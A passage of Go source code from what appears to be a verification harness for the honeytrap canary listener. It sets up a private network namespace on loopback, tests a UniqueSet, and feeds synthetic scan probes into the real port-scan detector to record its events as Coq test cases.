			obs, crash := runHtfs(w, in)
			for j, ob := range obs {
				if in.Ops[j].V == "cd" {
					dist[fmt.Sprintf("cd-result:%d", ob.Code)]++
				} else {
					dist["realpath"]++
				}
			}
			dist[fmt.Sprintf("ops:%d", len(in.Ops))]++
			cases = append(cases, hx.Case{ID: i, Kind: "htfs", Input: in, Obs: obs, Crash: crash, Coq: coqHtfs(i, in, obs)})
		}
		hx.Write(o, "C11", "htfs", header+"Import HtfsCheck.\n", "case", cases, dist, nil, 500)
	}

	// ---------- ftp ----------
	if replay == nil || replay.Part == "ftp" || replay.Part == "ftp-cwd" {
		runFtpPart(o, r, w, out, ftpHeader, all, replay)
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
