// The sensor should have several IPv4 addresses on one interface (the property is per source
// AND destination).  The harness therefore tries to re-execute itself in a private network
// namespace (nothing outside the process is touched) and to give `lo` the addresses of
// Model.dst_ips.  If any step of that fails (no CAP_SYS_ADMIN, seccomp, no `ip` tool, ...) or
// VERIF_C20_NO_NETNS=1 is set, it falls back to the single-address sensor of the current
// namespace (127.0.0.1 on lo): every probe is then sent to destination 0, and the scenarios
// that wanted several addresses are counted as multi-address-scenarios-skipped.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"

	"verif/harness/hx"
)

// the sensor addresses, in the order of Model.dst_ips
var allSensorIPs = [][4]byte{{127, 0, 0, 1}, {127, 0, 0, 2}, {192, 0, 2, 9}}

// sensorIPs: the addresses probes may be sent to (index = Probe.Dst); meIPs: every IPv4 address
// lo really has (what isMe answers true for)
var sensorIPs = allSensorIPs
var meIPs [][4]byte
var netnsNote = "netns: ok, lo carries 127.0.0.1 127.0.0.2 192.0.2.9"

const netnsSetupFailed = 77

func loAddrs() ([][4]byte, error) {
	intf, err := net.InterfaceByName("lo")
	if err != nil {
		return nil, err
	}
	addrs, err := intf.Addrs()
	if err != nil {
		return nil, err
	}
	var out [][4]byte
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			var k [4]byte
			copy(k[:], n.IP.To4())
			out = append(out, k)
		}
	}
	return out, nil
}

func setupNamespace() error {
	for _, c := range [][]string{
		{"ip", "link", "set", "lo", "up"},
		{"ip", "addr", "add", "127.0.0.2/8", "dev", "lo"},
		{"ip", "addr", "add", "192.0.2.9/24", "dev", "lo"},
	} {
		if out, err := exec.Command(c[0], c[1:]...).CombinedOutput(); err != nil {
			return fmt.Errorf("%s: %v %s", strings.Join(c, " "), err, strings.TrimSpace(string(out)))
		}
	}
	have, err := loAddrs()
	if err != nil {
		return err
	}
	set := map[[4]byte]bool{}
	for _, a := range have {
		set[a] = true
	}
	for _, s := range allSensorIPs {
		if !set[s] {
			return fmt.Errorf("lo lacks %v after the setup (has %v)", s, have)
		}
	}
	if len(have) != len(allSensorIPs) {
		return fmt.Errorf("lo has unexpected addresses %v", have)
	}
	return nil
}

// enterNetns: parent -> runs the same command line in a new network namespace and exits with
// its status, or falls back; child -> configures lo and returns.
func enterNetns() {
	if os.Getenv("C20_IN_NETNS") == "1" {
		if err := setupNamespace(); err != nil {
			if f := os.NewFile(3, "reason"); f != nil {
				fmt.Fprint(f, err.Error())
				f.Close()
			}
			os.Exit(netnsSetupFailed)
		}
		meIPs = allSensorIPs
		return
	}
	reason := ""
	if os.Getenv("VERIF_C20_NO_NETNS") == "1" {
		reason = "disabled by VERIF_C20_NO_NETNS=1"
	} else {
		pr, pw, err := os.Pipe()
		if err != nil {
			reason = "pipe: " + err.Error()
		} else {
			cmd := exec.Command("/proc/self/exe", os.Args[1:]...)
			cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
			cmd.Env = append(os.Environ(), "C20_IN_NETNS=1")
			cmd.ExtraFiles = []*os.File{pw}
			cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNET}
			err = cmd.Run()
			pw.Close()
			msg, _ := io.ReadAll(pr)
			pr.Close()
			switch ee, isExit := err.(*exec.ExitError); {
			case err == nil:
				os.Exit(0)
			case isExit && ee.ExitCode() == netnsSetupFailed:
				reason = "setup in the new namespace failed: " + string(msg)
			case isExit:
				os.Exit(ee.ExitCode()) // the harness itself ran (and failed) inside the namespace
			default:
				reason = "cannot start in a new network namespace: " + err.Error()
			}
		}
	}
	// fallback: the sensor of the current namespace
	have, err := loAddrs()
	if err != nil {
		hx.Fatal("lo: %v", err)
	}
	ok := false
	for _, a := range have {
		if a == allSensorIPs[0] {
			ok = true
		}
	}
	if !ok {
		hx.Fatal("lo has no 127.0.0.1 (has %v) and no private namespace is available (%s)", have, reason)
	}
	meIPs = have
	sensorIPs = allSensorIPs[:1]
	netnsNote = "netns-unavailable: " + reason
	fmt.Fprintln(os.Stderr, "C20 harness: "+netnsNote+"; single-address sensor, multi-address scenarios restricted to one destination")
}

// oneDestination maps every probe to destination 0 when only one sensor address exists;
// true = the scenario wanted several addresses
func oneDestination(ps []Probe) bool {
	if len(sensorIPs) > 1 {
		return false
	}
	multi := false
	for i := range ps {
		if ps[i].Dst != 0 {
			multi = true
			ps[i].Dst = 0
		}
	}
	return multi
}
