// The sensor needs several IPv4 addresses on one interface (the property is per source AND
// destination).  The harness therefore re-executes itself in a private network namespace
// (nothing outside the process is touched) and gives `lo` the addresses of Model.dst_ips.
package main

import (
	"net"
	"os"
	"os/exec"
	"syscall"

	"verif/harness/hx"
)

// the sensor addresses, in the order of Model.dst_ips
var sensorIPs = [][4]byte{{127, 0, 0, 1}, {127, 0, 0, 2}, {192, 0, 2, 9}}

// enterNetns: parent -> runs the same command line in a new network namespace and exits with
// its status; child -> configures lo and returns.
func enterNetns() {
	if os.Getenv("C20_IN_NETNS") == "1" {
		for _, c := range [][]string{
			{"ip", "link", "set", "lo", "up"},
			{"ip", "addr", "add", "127.0.0.2/8", "dev", "lo"},
			{"ip", "addr", "add", "192.0.2.9/24", "dev", "lo"},
		} {
			if out, err := exec.Command(c[0], c[1:]...).CombinedOutput(); err != nil {
				hx.Fatal("network namespace setup %v: %v %s", c, err, out)
			}
		}
		checkAddrs()
		return
	}
	cmd := exec.Command("/proc/self/exe", os.Args[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	cmd.Env = append(os.Environ(), "C20_IN_NETNS=1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNET}
	err := cmd.Run()
	if err == nil {
		os.Exit(0)
	}
	if ee, ok := err.(*exec.ExitError); ok {
		os.Exit(ee.ExitCode())
	}
	hx.Fatal("cannot start in a private network namespace (needed for a sensor with several addresses): %v", err)
}

func checkAddrs() {
	intf, err := net.InterfaceByName("lo")
	if err != nil {
		hx.Fatal("lo: %v", err)
	}
	addrs, _ := intf.Addrs()
	have := map[[4]byte]bool{}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			var k [4]byte
			copy(k[:], n.IP.To4())
			have[k] = true
		}
	}
	for _, s := range sensorIPs {
		if !have[s] {
			hx.Fatal("lo lacks the sensor address %v (has %v)", s, addrs)
		}
	}
	if len(have) != len(sensorIPs) {
		hx.Fatal("lo has unexpected IPv4 addresses: %v", addrs)
	}
}
