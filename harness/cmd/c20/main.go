// C20 harness.
//
// Part "uset": the real canary.UniqueSet driven through EVERY operation sequence of
// length <= 6 over 3 keys (Add k, Remove(rep of k), Each-with-removal), one observation
// per sequence, written as observation trees.
//
// Part "scan": the real knock detector behind the real handleTCP/handleUDP/handleICMP
// (canary.NewVerifCanary + Inject): bursts of probes from 1..4 sources in chosen
// interleavings; portscan events are collected per detector tick (5 s of real time), all
// scenarios of a batch in parallel.
package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

// ---------------------------------------------------------------- part uset

type el struct{ key, id int }

// op codes: 0..2 Add key; 3..5 Remove(current representative of key, else a non-member);
// 6 Each removing every visited element; 7..9 Each removing visited elements of key k.
func opName(o int) string {
	switch {
	case o < 3:
		return fmt.Sprintf("add%d", o)
	case o < 6:
		return fmt.Sprintf("rem%d", o-3)
	case o == 6:
		return "each-rm-all"
	}
	return fmt.Sprintf("each-rm%d", o-7)
}

// runSeq runs ops on a fresh real UniqueSet; returns the packed observation of the LAST
// op: result*2^21 + Count()*2^18 + state, where state lists the ids of the members in
// order (base 8), result is the id returned by Add / 0 for Remove / the visited ids (base 8,
// nil = 7) for Each.  A panic is reported as crash text.
func runSeq(ops []int) (obs uint64, crash string) {
	defer func() {
		if r := recover(); r != nil {
			crash = fmt.Sprintf("panic in UniqueSet on %v: %v", ops, r)
		}
	}()
	us := canary.NewUniqueSet(func(a, b interface{}) bool { return a.(*el).key == b.(*el).key })
	var result uint64
	for i, o := range ops {
		result = 0
		switch {
		case o < 3:
			x := &el{key: o, id: i + 1}
			got := us.Add(x)
			if g, ok := got.(*el); ok && g != nil {
				result = uint64(g.id)
			} else {
				result = 7
			}
		case o < 6:
			k := o - 3
			x := us.Find(func(v interface{}) bool { e, ok := v.(*el); return ok && e != nil && e.key == k })
			if x != nil {
				us.Remove(x)
			} else {
				us.Remove(&el{key: k, id: 0})
			}
		default:
			us.Each(func(_ int, v interface{}) {
				e, ok := v.(*el)
				if !ok || e == nil {
					result = result*8 + 7
					return
				}
				result = result*8 + uint64(e.id)
				if o == 6 || e.key == o-7 {
					us.Remove(e) // what the deferred knocks.Remove(k) of the tick does
				}
			})
		}
	}
	var state uint64
	n := 0
	us.Find(func(v interface{}) bool {
		n++
		if e, ok := v.(*el); ok && e != nil {
			state = state*8 + uint64(e.id)
		} else {
			state = state*8 + 7
		}
		return false
	})
	if n > 6 {
		return 0, fmt.Sprintf("more members than operations on %v", ops)
	}
	return result<<21 | uint64(us.Count())<<18 | state, ""
}

type UInput struct {
	NOps   int   `json:"nops"`
	Prefix []int `json:"prefix"`
	Depth  int   `json:"depth"`
}

type UObs struct {
	Nodes  int    `json:"nodes"`
	Digest string `json:"digest"`
	Root   uint64 `json:"root_obs"`
}

// tree renders the observation tree below prefix (depth more ops) as a Gallina term.
func tree(sb *strings.Builder, nops int, seq []int, depth int, nodes *int, dig *uint64, crash *string) {
	o, c := runSeq(seq)
	if c != "" && *crash == "" {
		*crash = c
	}
	*nodes++
	*dig = (*dig*1099511628211 + o + 1) % 18446744073709551557
	fmt.Fprintf(sb, "(T %d ", o)
	if depth == 0 {
		sb.WriteString("[])")
		return
	}
	sb.WriteString("[")
	for j := 0; j < nops; j++ {
		if j > 0 {
			sb.WriteString(";")
		}
		tree(sb, nops, append(append([]int(nil), seq...), j), depth-1, nodes, dig, crash)
	}
	sb.WriteString("])")
}

func usetCase(id int, in UInput) hx.Case {
	var sb strings.Builder
	var ob UObs
	var dig uint64
	crash := ""
	var pre []string
	for _, p := range in.Prefix {
		pre = append(pre, strconv.Itoa(p))
	}
	fmt.Fprintf(&sb, "(mkU %d %d %s ", id, in.NOps, hx.CoqList(pre, "N"))
	tree(&sb, in.NOps, in.Prefix, in.Depth, &ob.Nodes, &dig, &crash)
	sb.WriteString(")%N")
	ob.Digest = fmt.Sprintf("%016x", dig)
	ob.Root, _ = runSeq(in.Prefix)
	return hx.Case{ID: id, Kind: "uset-tree", Input: in, Obs: ob, Coq: sb.String(), Crash: crash}
}

// usetInputs: a top tree (all sequences of length <= split) and one tree per prefix of
// length split covering the extensions up to total length maxLen.
func usetInputs(nops, maxLen, split int) []UInput {
	ins := []UInput{{NOps: nops, Prefix: []int{}, Depth: split}}
	var rec func(pre []int)
	rec = func(pre []int) {
		if len(pre) == split {
			ins = append(ins, UInput{NOps: nops, Prefix: append([]int{}, pre...), Depth: maxLen - split})
			return
		}
		for j := 0; j < nops; j++ {
			rec(append(pre, j))
		}
	}
	if maxLen > split {
		rec(nil)
	}
	return ins
}

// ---------------------------------------------------------------- part scan

type Probe struct {
	Src   int    `json:"src"`   // source index 0..3: ip 10.0.0.(1+src), mac 02:00:00:00:00:(01+src)
	Proto string `json:"proto"` // tcp | udp | icmp
	Port  int    `json:"port"`  // destination port (icmp: the ICMP type)
	Flags int    `json:"flags,omitempty"`
	SPort int    `json:"sport,omitempty"` // tcp/udp source port (udp: 0 = 40000+src)
	PLen  int    `json:"plen,omitempty"`  // udp/icmp: payload bytes = PLen-1 when > 0 (0 = 4 bytes)
	Dst   int    `json:"dst,omitempty"`   // index of the sensor address probed (sensorIPs)
}

func (p Probe) payload() []byte {
	n := 4
	if p.PLen > 0 {
		n = p.PLen - 1
	}
	b := make([]byte, n)
	copy(b, "scan")
	return b
}

type SInput struct {
	Probes []Probe `json:"probes"`
	Ticks  int     `json:"ticks"`
	Live   bool    `json:"live,omitempty"` // frames go through the real Start() receive loop
}

type Ev struct {
	SMac  string   `json:"smac"`
	DMac  string   `json:"dmac"`
	SIP   string   `json:"sip"`
	DIP   string   `json:"dip"`
	Ports []string `json:"ports"`
}

type SObs struct {
	Ticks   [][]Ev `json:"ticks"`
	BurstMs int64  `json:"burst_ms"`
}

const tickMs = 5000

var dstMac = net.HardwareAddr{2, 0, 0, 0, 0, 0xff}

// source i: 02:00:00:00:00:01 + i, 10.0.0.1 + i (as numbers, like Model.src_mac / src_ip)
func srcMac(i int) net.HardwareAddr {
	v := uint64(0x020000000001) + uint64(i)
	return net.HardwareAddr{byte(v >> 40), byte(v >> 32), byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}
}
func srcIP(i int) net.IP {
	v := uint32(0x0a000001) + uint32(i)
	return net.IPv4(byte(v>>24), byte(v>>16), byte(v>>8), byte(v)).To4()
}

func frame(p Probe) []byte {
	var l4 []byte
	proto := byte(0)
	switch p.Proto {
	case "udp":
		proto = 17
		pl := p.payload()
		l4 = make([]byte, 8+len(pl))
		sp := 40000 + p.Src
		if p.SPort != 0 {
			sp = p.SPort
		}
		binary.BigEndian.PutUint16(l4[0:], uint16(sp))
		binary.BigEndian.PutUint16(l4[2:], uint16(p.Port))
		binary.BigEndian.PutUint16(l4[4:], uint16(len(l4)))
		copy(l4[8:], pl)
	case "icmp":
		proto = 1
		pl := p.payload()
		l4 = make([]byte, 8+len(pl)) // 8 bytes = an echo request without data
		l4[0] = byte(p.Port)         // type (8 = echo request)
		binary.BigEndian.PutUint16(l4[4:], 0x1234)
		binary.BigEndian.PutUint16(l4[6:], 1)
		copy(l4[8:], pl)
	case "tcp":
		proto = 6
		l4 = make([]byte, 20)
		binary.BigEndian.PutUint16(l4[0:], uint16(p.SPort))
		binary.BigEndian.PutUint16(l4[2:], uint16(p.Port))
		binary.BigEndian.PutUint32(l4[4:], 1000)
		l4[12] = 5 << 4
		l4[13] = byte(p.Flags)
		binary.BigEndian.PutUint16(l4[14:], 65535)
	}
	ip := make([]byte, 20)
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(l4)))
	ip[8] = 64
	ip[9] = proto
	copy(ip[12:], srcIP(p.Src))
	copy(ip[16:], sensorIPs[p.Dst][:])
	eth := make([]byte, 14)
	copy(eth[0:], dstMac)
	copy(eth[6:], srcMac(p.Src))
	eth[12], eth[13] = 0x08, 0x00
	return append(append(eth, ip...), l4...)
}

type recEv struct {
	at time.Time
	ev Ev
}

// keptEv: the event object itself is kept (a consumer may read it any time later: events are
// shared objects), together with what its port list said on arrival
type keptEv struct {
	e     event.Event
	ports []string
	src   string
}

type recorder struct {
	mu   sync.Mutex
	cond *sync.Cond
	udp  int
	scan []recEv
	// a slow pusher: the first portscan event is recorded, announced on entered, and its Send
	// returns only when gate is closed
	gate    chan struct{}
	entered chan struct{}
	gated   bool
	kept    []keptEv
}

func readPorts(e event.Event) []string {
	var out []string
	e.Range(func(k, v interface{}) bool {
		if ks, ok := k.(string); ok && ks == "portscan.ports" {
			if ps, ok := v.([]string); ok {
				out = append([]string{}, ps...)
			} else {
				out = []string{fmt.Sprintf("?%T", v)}
			}
		}
		return true
	})
	return out
}

// changedLater reads every kept portscan event again and reports the first whose port list
// is no longer what it was on arrival ("" = all unchanged)
func (r *recorder) changedLater() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i, k := range r.kept {
		now := readPorts(k.e)
		if strings.Join(now, ",") != strings.Join(k.ports, ",") {
			return fmt.Sprintf("the port list of portscan event %d (source %s) changed after delivery: %v on arrival, %v at the end of the scenario", i+1, k.src, k.ports, now)
		}
	}
	return ""
}

func (r *recorder) scanLen() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.scan)
}

func (r *recorder) udpCount() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.udp
}

func newRecorder() *recorder {
	r := &recorder{}
	r.cond = sync.NewCond(&r.mu)
	return r
}

func (r *recorder) Send(e event.Event) {
	cat := e.Get("category")
	hold := false
	defer func() {
		if hold {
			close(r.entered)
			<-r.gate
		}
	}()
	r.mu.Lock()
	defer r.mu.Unlock()
	switch cat {
	case "udp":
		r.udp++
		r.cond.Broadcast()
	case "portscan":
		ev := Ev{SMac: e.Get("source-mac"), DMac: e.Get("destination-mac"), SIP: e.Get("source-ip"), DIP: e.Get("destination-ip")}
		e.Range(func(k, v interface{}) bool {
			if ks, ok := k.(string); ok && ks == "portscan.ports" {
				if ps, ok := v.([]string); ok {
					ev.Ports = append([]string{}, ps...)
				} else {
					ev.Ports = []string{fmt.Sprintf("?%T", v)}
				}
			}
			return true
		})
		r.scan = append(r.scan, recEv{at: time.Now(), ev: ev})
		r.kept = append(r.kept, keptEv{e: e, ports: append([]string{}, ev.Ports...), src: ev.SIP})
		if r.gate != nil && !r.gated {
			r.gated = true
			hold = true
		}
	}
}

// waitUDP blocks until n udp events were seen (the knock of the n-th datagram is queued).
func (r *recorder) waitUDP(n int, d time.Duration) bool {
	deadline := time.Now().Add(d)
	r.mu.Lock()
	defer r.mu.Unlock()
	for r.udp < n {
		if time.Now().After(deadline) {
			return false
		}
		r.mu.Unlock()
		time.Sleep(200 * time.Microsecond)
		r.mu.Lock()
	}
	return true
}

var injectSem = make(chan struct{}, 24)

// slowBurst: the burst itself took so long (loaded machine) that the tick bucketing would be
// unreliable; the scenario is run again.
const slowBurst = "harness: burst too slow"

func runScanRetry(in SInput) (ob SObs, crash string) {
	for attempt := 0; attempt < 4; attempt++ {
		ob, crash = runScan(in)
		if crash != slowBurst {
			return ob, crash
		}
	}
	hx.Fatal("burst of %d probes took %d ms four times in a row: machine too loaded for the tick bucketing", len(in.Probes), ob.BurstMs)
	return
}

// gapWatch notes the longest pause between two injections: the detector reports after 5 s
// without a knock, so a pause of seconds (a stalled harness) would split the burst.
type gapWatch struct {
	last time.Time
	max  time.Duration
}

func (g *gapWatch) step() {
	now := time.Now()
	if !g.last.IsZero() && now.Sub(g.last) > g.max {
		g.max = now.Sub(g.last)
	}
	g.last = now
}
func (g *gapWatch) stalled() bool { return g.max > 2*time.Second }

// watchdog runs f in a goroutine of its own; false = f did not return within d
func watchdog(d time.Duration, f func()) bool {
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
		return true
	case <-time.After(d):
		return false
	}
}

func runScan(in SInput) (ob SObs, crash string) {
	rec := newRecorder()
	var arp canary.ARPCache
	for i := 0; i < 4; i++ {
		arp = append(arp, canary.ARPEntry{IP: srcIP(i), HardwareAddress: srcMac(i), Interface: "lo"})
	}
	v, err := canary.NewVerifCanary("lo", arp, canary.RouteTable{}, rec)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	if in.Live {
		// the real receive loop (it starts the detector itself).  It is never cancelled: Close()
		// of the epoll descriptor makes the loop call log.Fatalf, which exits the process.
		if err := v.C.Start(ctx); err != nil {
			hx.Fatal("Start: %v", err)
		}
		_ = cancel // deliberately never called
		return runLive(in, v, rec)
	}
	defer v.Close()
	defer cancel()
	v.StartKnockDetector(ctx)

	injectSem <- struct{}{}
	t0 := time.Now()
	var gw gapWatch
	nudp := 0
	finished := watchdog(120*time.Second, func() {
		defer func() {
			if r := recover(); r != nil {
				crash = fmt.Sprintf("handler panic: %v", r)
			}
		}()
		for _, p := range in.Probes {
			gw.step()
			v.Inject(frame(p)) // ICMP/TCP: the knock is queued when this returns
			if p.Proto == "udp" {
				nudp++
				if !rec.waitUDP(nudp, 10*time.Second) {
					crash = "udp handler goroutine did not finish within 10 s"
					return
				}
			}
		}
		gw.step()
	})
	marker := rec.scanLen()
	<-injectSem
	ob.BurstMs = time.Since(t0).Milliseconds()
	if !finished {
		return ob, "a handler blocked for 120 s"
	}
	if crash != "" {
		return ob, crash
	}
	if gw.stalled() {
		return ob, slowBurst
	}
	ob.Ticks, crash = collect(rec, 0, marker, in.Ticks, "")
	return ob, crash
}

// the live scenarios end with one datagram from a source of their own: when its udp event
// arrives the receive loop has handled every frame before it
const sentinelSrc = 200

func runLive(in SInput, v *canary.VerifCanary, rec *recorder) (ob SObs, crash string) {
	injectSem <- struct{}{}
	t0 := time.Now()
	var gw gapWatch
	nudp := 0
	for _, p := range append(append([]Probe{}, in.Probes...), Probe{Src: sentinelSrc, Proto: "udp", Port: 4999}) {
		if p.Proto == "tcp" {
			hx.Fatal("live scenarios carry no TCP (the transmit path needs an AF_PACKET socket)")
		}
		if p.Proto == "udp" {
			nudp++
		}
		gw.step()
		if _, err := syscall.Write(v.PeerFd, frame(p)); err != nil {
			hx.Fatal("write to the socketpair: %v", err)
		}
	}
	ok := rec.waitUDP(nudp, 10*time.Second)
	gw.step()
	marker := rec.scanLen()
	<-injectSem
	ob.BurstMs = time.Since(t0).Milliseconds()
	if !ok {
		return ob, "receive loop did not handle all datagrams within 10 s"
	}
	if gw.stalled() {
		return ob, slowBurst
	}
	ob.Ticks, crash = collect(rec, 0, marker, in.Ticks, srcIP(sentinelSrc).String())
	return ob, crash
}

const (
	quietAfter = 7500 * time.Millisecond // > one 5 s period: no further report round can follow
	roundGap   = 2500 * time.Millisecond // events of one round arrive back to back
)

// collect waits until no portscan event has arrived for quietAfter, then splits the events
// recorded after `marker` into report rounds (ticks of the detector) by the pauses between
// them.  Events of the source `skip` are left out.
func collect(rec *recorder, base, marker, rounds int, skip string) ([][]Ev, string) {
	// quiet time is counted in steps of 50 ms; a step that took much longer (the process was
	// stalled, so was the detector's timer) counts as one step only
	start := time.Now()
	seen := rec.scanLen()
	var quiet time.Duration
	for quiet < quietAfter {
		t := time.Now()
		time.Sleep(50 * time.Millisecond)
		d := time.Since(t)
		if d > 100*time.Millisecond {
			d = 100 * time.Millisecond
		}
		quiet += d
		if n := rec.scanLen(); n != seen {
			seen, quiet = n, 0
		}
		if time.Since(start) > 120*time.Second {
			return nil, "portscan events kept arriving for 120 s"
		}
	}
	if msg := rec.changedLater(); msg != "" {
		return nil, msg
	}
	rec.mu.Lock()
	defer rec.mu.Unlock()
	out := make([][]Ev, rounds)
	for i := range out {
		out[i] = []Ev{}
	}
	if marker > base {
		return out, fmt.Sprintf("%d portscan event(s) before the end of the burst", marker-base)
	}
	k := -1
	var prev time.Time
	for _, e := range rec.scan[marker:] {
		if k < 0 || e.at.Sub(prev) > roundGap {
			k++
		}
		prev = e.at
		if k >= rounds {
			k = rounds - 1 // further rounds are added to the last one (their events count as repeated/late)
		}
		if skip != "" && e.ev.SIP == skip {
			continue
		}
		out[k] = append(out[k], e.ev)
	}
	return out, ""
}

func ipN(s string) uint64 {
	ip := net.ParseIP(s).To4()
	if ip == nil {
		return 0
	}
	return uint64(binary.BigEndian.Uint32(ip))
}

func macN(s string) uint64 {
	m, err := net.ParseMAC(s)
	if err != nil || len(m) != 6 {
		return 0
	}
	var x uint64
	for _, b := range m {
		x = x<<8 | uint64(b)
	}
	return x
}

// port string -> (kind, port): 0 tcp, 1 udp, 2 icmp, 3 anything else
func coqPort(s string) string {
	if s == "icmp" {
		return "(2,0)"
	}
	for i, pre := range []string{"tcp/", "udp/"} {
		if strings.HasPrefix(s, pre) {
			if n, err := strconv.ParseUint(s[len(pre):], 10, 16); err == nil && strconv.FormatUint(n, 10) == s[len(pre):] {
				return fmt.Sprintf("(%d,%d)", i, n)
			}
		}
	}
	return "(3,0)"
}

func kindN(p string) int {
	switch p {
	case "tcp":
		return 0
	case "udp":
		return 1
	}
	return 2
}

func coqEv(e Ev) string {
	var pp []string
	for _, s := range e.Ports {
		pp = append(pp, coqPort(s))
	}
	return fmt.Sprintf("E %d %d %d %d %s", macN(e.SMac), macN(e.DMac), ipN(e.SIP), ipN(e.DIP), hx.CoqList(pp, "(N*N)"))
}

func coqTicks(ob SObs) string {
	var ts []string
	for _, t := range ob.Ticks {
		var es []string
		for _, e := range t {
			es = append(es, coqEv(e))
		}
		ts = append(ts, hx.CoqList(es, "ev"))
	}
	return hx.CoqList(ts, "(list ev)")
}

func coqProbe(p Probe) string {
	return fmt.Sprintf("P %d %d %d %d %d", p.Src, kindN(p.Proto), p.Port, p.Flags, p.Dst)
}

func scanCoq(id int, in SInput, ob SObs) string {
	var ps []string
	for _, p := range in.Probes {
		ps = append(ps, coqProbe(p))
	}
	ticks := coqTicks(ob)
	live := "false"
	if in.Live {
		live = "true"
	}
	return fmt.Sprintf("(mkS %d %s %s %s)%%N", id, live, hx.CoqList(ps, "probe"), ticks)
}

var udpPorts = []int{7, 1000, 1001, 9999, 65535, 0, 54, 5061}
var tcpPorts = []int{80, 443, 23, 8080, 1000, 22, 65535}

func genProbe(r *hx.Rand, src int, sport *int) Probe {
	switch r.Intn(10) {
	case 0, 1, 2, 3, 4:
		return Probe{Src: src, Proto: "udp", Port: udpPorts[r.Intn(len(udpPorts))],
			SPort: r.PickInt([]int{0, 0, 53, 123, 161, 162, 1900, 5060, 22, 65535}), PLen: r.PickInt([]int{0, 1, 2, 5, 33})}
	case 5, 6:
		ty := 8
		if r.Chance(1, 5) {
			ty = r.PickInt([]int{0, 13, 17, 3})
		}
		return Probe{Src: src, Proto: "icmp", Port: ty, PLen: r.PickInt([]int{0, 1, 1, 2, 57})}
	}
	*sport++
	fl := 2
	if r.Chance(1, 8) {
		fl = r.PickInt([]int{2 | 16, 2 | 1, 2 | 8, 2 | 4, 2 | 32})
	}
	sp := 20000 + *sport
	if r.Chance(1, 6) {
		sp = 20001 // the same 4-tuple again
	} else if r.Chance(1, 4) {
		// a fixed / service source port: pairs that mirror other probes (S:a->b, S:b->a) or
		// with equal ports - they collide under the state table's either-direction lookup
		sp = r.PickInt([]int{80, 443, 23, 8080, 1000, 65535, 53})
	}
	return Probe{Src: src, Proto: "tcp", Port: tcpPorts[r.Intn(len(tcpPorts))], Flags: fl, SPort: sp}
}

// interleavings of per-source probe lists (all of them), each source's order kept
func interleavings(lists [][]Probe) [][]Probe {
	total := 0
	for _, l := range lists {
		total += len(l)
	}
	if total == 0 {
		return [][]Probe{{}}
	}
	var out [][]Probe
	for i, l := range lists {
		if len(l) == 0 {
			continue
		}
		rest := make([][]Probe, len(lists))
		copy(rest, lists)
		rest[i] = l[1:]
		for _, tail := range interleavings(rest) {
			out = append(out, append([]Probe{l[0]}, tail...))
		}
	}
	return out
}

func scanInputs(r *hx.Rand, tier string) []SInput {
	T := 3
	udp := func(s, p int) Probe { return Probe{Src: s, Proto: "udp", Port: p} }
	icmp := func(s int) Probe { return Probe{Src: s, Proto: "icmp", Port: 8} }
	syn := func(s, p, sp int) Probe { return Probe{Src: s, Proto: "tcp", Port: p, Flags: 2, SPort: sp} }
	var ins []SInput
	// corpus: the witnesses of the two repaired defects first (a regression shows up as case 0 / 1)
	ins = append(ins,
		SInput{Probes: []Probe{udp(0, 1000), udp(1, 1000), udp(2, 1000)}, Ticks: T},
		SInput{Probes: []Probe{syn(0, 80, 20001), syn(0, 443, 20002), syn(0, 80, 20003)}, Ticks: T},
		SInput{Probes: []Probe{udp(0, 1000), udp(0, 1001), udp(0, 1000), udp(0, 7), udp(0, 1001)}, Ticks: T},
		SInput{Probes: []Probe{icmp(0), icmp(0), icmp(0)}, Ticks: T},
		SInput{Probes: []Probe{{Src: 0, Proto: "icmp", Port: 8, PLen: 1}, {Src: 1, Proto: "icmp", Port: 8, PLen: 2}, {Src: 1, Proto: "udp", Port: 7, SPort: 53, PLen: 1}, {Src: 0, Proto: "udp", Port: 69, SPort: 123}}, Ticks: T},
		SInput{Probes: []Probe{icmp(0), udp(0, 7), syn(0, 80, 20001), udp(0, 7), icmp(0)}, Ticks: T},
		SInput{Probes: []Probe{udp(0, 1), udp(1, 2), udp(2, 3), udp(3, 4), icmp(0), icmp(1), icmp(2), icmp(3)}, Ticks: T},
	)
	// mirrored and equal (source port, destination port) pairs from one source in one burst
	ins = append(ins, SInput{Probes: []Probe{syn(0, 80, 40000), syn(0, 40000, 80), syn(0, 7000, 7000), syn(0, 7000, 80), syn(1, 80, 40000), syn(0, 40000, 40000)}, Ticks: T})
	// one source probing two / three sensor addresses (same hardware address) in one window
	at := func(p Probe, d int) Probe { p.Dst = d; return p }
	ins = append(ins,
		SInput{Probes: []Probe{at(udp(0, 7), 0), at(udp(0, 9), 0), at(udp(0, 9), 1), at(udp(0, 69), 1), at(udp(0, 7), 0)}, Ticks: T},
		SInput{Probes: []Probe{at(syn(0, 80, 20001), 1), at(syn(0, 443, 20002), 2), at(syn(0, 80, 20003), 2), at(icmp(0), 0), at(icmp(0), 2),
			at(udp(1, 5), 2), at(udp(1, 5), 1), at(udp(1, 5), 0)}, Ticks: T},
	)
	// one source, 150 probes over 120 distinct ports (the Count > 100 branch), and 101 probes of one port
	var big, same []Probe
	for i := 0; i < 150; i++ {
		big = append(big, udp(0, 2000+i%120))
	}
